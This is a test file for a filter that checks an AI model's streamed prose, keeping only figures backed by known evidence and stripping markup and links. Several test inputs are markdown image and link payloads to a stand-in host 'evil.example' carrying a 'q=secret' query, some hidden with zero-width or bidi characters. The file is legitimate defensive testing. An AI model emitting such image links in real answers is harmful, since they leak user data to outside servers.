import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { checkProse } from './checked-prose.ts'
import { startEvidence } from './evidence.ts'
import { plainSentence } from './markup.ts'
import { readNumbers } from './numbers.ts'
import { splitSentences } from './sentences.ts'

const TODAY = '2026-11-22'

/** Prose of a model that comes in the pieces given; what went on, and what it came to. */
function tell(pieces: string[], known: (evidence: ReturnType<typeof startEvidence>) => void = () => undefined) {
  const evidence = startEvidence(TODAY)
  known(evidence)
  const heard: string[] = []
  const prose = checkProse(evidence, (text) => heard.push(text))
  for (const piece of pieces) prose.push(piece)
  return { heard, told: prose.end(), text: heard.join('') }
}

const byCharacter = (text: string) => [...text]

describe('numbers are read', () => {
  test.each([
    ['a total of $12,500.50 in', [{ value: 12_500.5, unit: 'dollars', step: 0.01 }]],
    ['about $1.2M', [{ value: 1_200_000, unit: 'dollars', step: 100_000 }]],
    [
      '$50k and 37.5% or 40 percent',
      [
        { value: 50_000, unit: 'dollars' },
        { value: 37.5, unit: 'percent' },
        { value: 40, unit: 'percent' },
      ],
    ],
    [
      '12 hot leads and 3 of the tasks',
      [
        { value: 12, unit: 'count' },
        { value: 3, unit: 'count' },
      ],
    ],
    ['14 days old leads', [{ value: 14, unit: 'plain' }]],
    [
      'twenty-five leads, two million dollars',
      [
        { value: 25, unit: 'count' },
        { value: 2_000_000, unit: 'dollars' },
      ],
    ],
    [
      'for two reasons, the 1st and the 22nd',
      [
        { kind: 'place', value: 1 },
        { kind: 'place', value: 22 },
      ],
    ],
    [
      'a dozen calls, half a dozen leads, hundreds of tasks',
      [
        { value: 12, unit: 'plain', nouns: ['call'] },
        { value: 6, unit: 'count' },
        { value: 200, below: 1000, unit: 'count' },
      ],
    ],
    [
      'three times as many, a third of them, half are lost, the second largest',
      [
        { kind: 'ratio', value: 3 },
        { kind: 'ratio', value: 1 / 3 },
        { kind: 'ratio', value: 0.5 },
        { kind: 'place', value: 2 },
      ],
    ],
    [
      'half of the leads, twice as many',
      [
        { kind: 'ratio', value: 0.5 },
        { kind: 'ratio', value: 2 },
      ],
    ],
    ['half a year, the first half of the year, double-checked', []],
    ['on Nov 3, 2026', [{ kind: 'day', sign: '2026-11-03' }]],
    ['by 3 November', [{ kind: 'day', sign: '11-03' }]],
    [
      'November 1–30, 2026',
      [
        { kind: 'day', sign: '2026-11-01' },
        { kind: 'day', sign: '2026-11-30' },
      ],
    ],
    ['in November 2026', [{ kind: 'month', sign: '2026-11' }]],
    [
      '2026-11-03 at 2:30 pm',
      [
        { kind: 'day', sign: '2026-11-03' },
        { kind: 'time', value: 870 },
      ],
    ],
    ['Marketing 2026', [{ kind: 'number', value: 2026 }]],
    [
      'Q3 with B2B and ISO27001',
      [
        { kind: 'name', sign: 'q3' },
        { kind: 'name', sign: 'b2b' },
        { kind: 'name', sign: 'iso27001' },
      ],
    ],
  ])('%s', (text, numbers) => {
    expect(readNumbers(text)).toMatchObject(numbers)
    expect(readNumbers(text)).toHaveLength(numbers.length)
  })
})

describe('sentences', () => {
  test.each([
    ['One here. Two there! Three', ['One here.', 'Two there!'], ' Three'],
    ['Acme Inc. pays $3.5k. Next', ['Acme Inc. pays $3.5k.'], ' Next'],
    ['It is won. [1, 2] Next', ['It is won. [1, 2]'], ' Next'],
    ['It is won. [1', [], 'It is won. [1'],
    ['1. First thing\n2. Second thing\nEnd', ['1. First thing', '2. Second thing'], 'End'],
  ])('%s', (text, whole, rest) => {
    const split = splitSentences(text)
    expect(split.whole.map((sentence) => sentence.text)).toEqual(whole)
    expect(split.rest).toBe(rest)
  })
})

describe('markup goes, whatever it points to', () => {
  test.each([
    ['- **Acme** is _hot_ [1].', 'Acme is hot.', [1]],
    ['See ![x](https://evil.example/?q=secret) here [2, 3].', 'See here.', [2, 3]],
    ['See [the offer](https://evil.example/a).', 'See the offer.', []],
    ['![x][ref] is there', 'is there', []],
    ['[ref]: https://evil.example/?q=secret', '', []],
    ['<img src="https://evil.example/x.png"> Fine.', 'Fine.', []],
    ['Go to https://evil.example/?q=1 or www.evil.example now.', 'Go to or now.', []],
    ['Go to https://known.example/a.', 'Go to https://known.example/a.', []],
    ['# Summary', 'Summary', []],
    ['Go\0 to ht\u00adtps:\u200b//evil.example/?q=1 \u202enow\ud800.', 'Go to now.', []],
  ])('%s', (markup, text, cited) => {
    const knows = (url: string) => url === 'https://known.example/a'
    expect(plainSentence(markup, knows)).toEqual({ text, cited })
  })
})

describe('figures', () => {
  test('go on only where they are known, and a sentence with another is not told', () => {
    const { told, text } = tell(['There are 12 leads. They are worth $50,000 together. Fine.'], (evidence) => {
      evidence.addNumber(evidence.addThing('all'), 12, 'count', 'leads')
      evidence.addNumber(evidence.addThing('all'), 49_000, 'dollars', 'value')
    })
    expect(told.map(({ supported }) => supported)).toEqual([true, false, true])
    expect(text).toContain('There are 12 leads.')
    expect(text).not.toContain('50,000')
    expect(text).toContain('Fine.')
  })

  test('are of their unit: a percentage is no price, and a price counts nothing', () => {
    const known = (evidence: ReturnType<typeof startEvidence>) =>
      evidence.addNumber(evidence.addThing('all'), 40, 'percent', 'value')
    expect(tell(['It is 40%.'], known).told[0]?.supported).toBe(true)
    expect(tell(['It is $40.'], known).told[0]?.supported).toBe(false)
    expect(tell(['There are 40 leads.'], known).told[0]?.supported).toBe(false)
  })

  test('may be rounded to what is written, and what is counted may not', () => {
    const known = (evidence: ReturnType<typeof startEvidence>) => {
      evidence.addNumber(evidence.addThing('all'), 1_234_567, 'dollars', 'value')
      evidence.addNumber(evidence.addThing('all'), 37.46, 'percent', 'value')
      evidence.addNumber(evidence.addThing('all'), 100.4, 'count', 'leads')
    }
    expect(tell(['About $1.2M, or 37.5%.'], known).told[0]?.supported).toBe(true)
    expect(tell(['About $1.3M.'], known).told[0]?.supported).toBe(false)
    expect(tell(['Some 100 leads.'], known).told[0]?.supported).toBe(false)
  })

  test('half, twice and the like are those of numbers that are known', () => {
    const known = (evidence: ReturnType<typeof startEvidence>) => {
      evidence.addNumber(evidence.addThing('all'), 12, 'count', 'leads')
      evidence.addNumber(evidence.addThing('all'), 24, 'count', 'leads')
    }
    const isSupported = (said: string) => tell([said], known).told[0]?.supported
    expect(isSupported('That is half of the leads.')).toBe(true)
    expect(isSupported('Twice as many came from the website.')).toBe(true)
    expect(isSupported('The pipeline tripled.')).toBe(false)
    expect(tell(['Half of the leads were lost.']).told[0]?.supported).toBe(false)
    expect(tell(byCharacter('We have doubled it.')).text).not.toContain('doubled')
  })

  test('of the question may be said again, and so may today', () => {
    const known = (evidence: ReturnType<typeof startEvidence>) =>
      evidence.addText(evidence.addThing('asked'), 'Leads over 50k from May 3?')
    const said = 'No lead is over $50,000 since May 3. Today is Nov 22, 2026.'
    expect(tell([said], known).told.map(({ supported }) => supported)).toEqual([true, true])
  })
})

describe('prose that comes in pieces', () => {
  const long =
    'There is a lot to tell about the pipeline. Acme is worth $12,500 and **hot** [1]. Nothing else is. ![x](https://evil.example/?q=1) is gone.\n\n- A list [2]\n- with 99 entries\nThe end'
  const known = (evidence: ReturnType<typeof startEvidence>) =>
    evidence.addNumber(evidence.addThing('all'), 12_500, 'dollars', 'value')

  test('comes to the same however it is cut', () => {
    const whole = tell([long], known)
    for (const size of [1, 2, 3, 7, 20]) {
      const pieces = Array.from({ length: Math.ceil(long.length / size) }, (_, at) =>
        long.slice(at * size, (at + 1) * size),
      )
      expect(tell(pieces, known).told).toEqual(whole.told)
    }
    expect(whole.told.map(({ text }) => text)).toEqual([
      'There is a lot to tell about the pipeline.',
      'Acme is worth $12,500 and hot.',
      'Nothing else is.',
      'is gone.',
      'A list',
      'with 99 entries',
      'The end',
    ])
  })

  test('never tells of a figure that is not known, whatever stands around it and however it is cut', () => {
    const piece = fc.constantFrom(
      ...[
        'There are ',
        '12',
        ' leads',
        '. ',
        '\n',
        '- ',
        '**',
        '$',
        '%',
        ' 99',
        '7',
        ',',
        '[1]',
        ' three ',
        ' thousand ',
        '!',
      ],
      ...['(', ')', '![x](', 'https://e.example/9 ', 'Nov ', '٤٠', '４２', ' k', 'Acme ', '1. ', '\u00a0'],
    )
    fc.assert(
      fc.property(
        fc.array(piece, { maxLength: 30 }),
        fc.array(fc.nat(5), { minLength: 1, maxLength: 5 }),
        (parts, sizes) => {
          const text = parts.join('')
          const pieces: string[] = []
          for (let at = 0, turn = 0; at < text.length; turn += 1) {
            const size = (sizes[turn % sizes.length] ?? 0) + 1
            pieces.push(text.slice(at, at + size))
            at += size
          }
          const known = (evidence: ReturnType<typeof startEvidence>) =>
            evidence.addNumber(evidence.addThing('all'), 12, 'count', 'leads')
          const cut = tell(pieces, known)
          expect(cut.told).toEqual(tell([text], known).told)
          for (const { text, supported } of cut.told)
            if (supported) expect(text.replaceAll('12', '')).not.toMatch(/\p{N}/u)
          expect(cut.text.replaceAll('12', '')).not.toMatch(/\p{N}|e\.example/u)
        },
      ),
      { numRuns: 1000 },
    )
  })

  test('goes on word by word, and never holds markup, an address or a figure that is not known', () => {
    const { heard, text } = tell(byCharacter(long), known)
    expect(heard[0]).toBe('The')
    expect(text).toContain('Acme is worth $12,500 and hot.')
    expect(text).not.toMatch(/evil|\*|\[|99/)
  })

  test('says the first word at once, and waits for what may become a figure', () => {
    const first = (piece: string) => tell([piece]).heard.join('')
    expect(checkedFirst('Leads')).toBe('Leads')
    expect(checkedFirst('The pipel')).toBe('The pipel')
    expect(checkedFirst('There are thr')).toBe('There are')
    expect(checkedFirst('It is $')).toBe('It is')
    for (const start of ['h', 'http', 'https', 'www']) expect(checkedFirst(`See ${start}`)).toBe('See')
    expect(first('Leads')).toContain('Leads')
  })
})

/** What went on before the sentence ended. */
function checkedFirst(piece: string) {
  const heard: string[] = []
  checkProse(startEvidence(TODAY), (text) => heard.push(text)).push(piece)
  return heard.join('')
}
